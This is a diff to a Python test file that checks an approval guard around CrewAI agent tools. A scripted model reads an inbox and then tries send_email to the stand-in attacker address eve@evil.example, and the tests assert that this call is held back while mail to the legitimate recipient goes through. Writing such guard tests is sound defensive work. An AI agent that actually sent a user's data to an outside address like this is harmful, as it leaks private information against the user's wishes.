@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import asyncio
 import os
 from typing import Any
 
@@ -15,7 +16,7 @@ from crewai.tools import tool
 import example
 from remit_client.crewai import definitions, protect
 
-from .spec import READ, Adapter, Run, Script, openai_message, send
+from .spec import READ, Adapter, Office, Run, Script, openai_message, send
 
 
 class Scripted(BaseLLM):
@@ -63,6 +64,22 @@ def test_a_refused_call_is_decided_again() -> None:
     run = Run([[READ], [send("eve@evil.example")], [send("eve@evil.example")], "Done."], approval_seconds=0)
     TestCrew().run(run)
     assert [event["call"]["tool"] for event in run.events("call")] == ["read_inbox", "send_email", "send_email"]
+
+
+def test_a_crew_that_is_awaited_is_protected() -> None:
+    office = Office()
+    tools: Any = [tool(f.__name__)(f) for f in office.functions]
+    with Run([]).remit() as remit:
+        session = remit.session(tools=definitions(tools))
+        session.user("Send the notes to ann@corp.example")
+        _, send_email, _ = protect(session, tools)
+
+        async def call(to: str) -> str:
+            return str(await send_email.arun(to=to, body="The notes."))
+
+        assert asyncio.run(call("ann@corp.example")) == "sent to ann@corp.example"
+        assert "held back" in asyncio.run(call("eve@evil.example"))
+    assert office.sent == ["ann@corp.example"]
 
 
 def test_the_example_runs(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
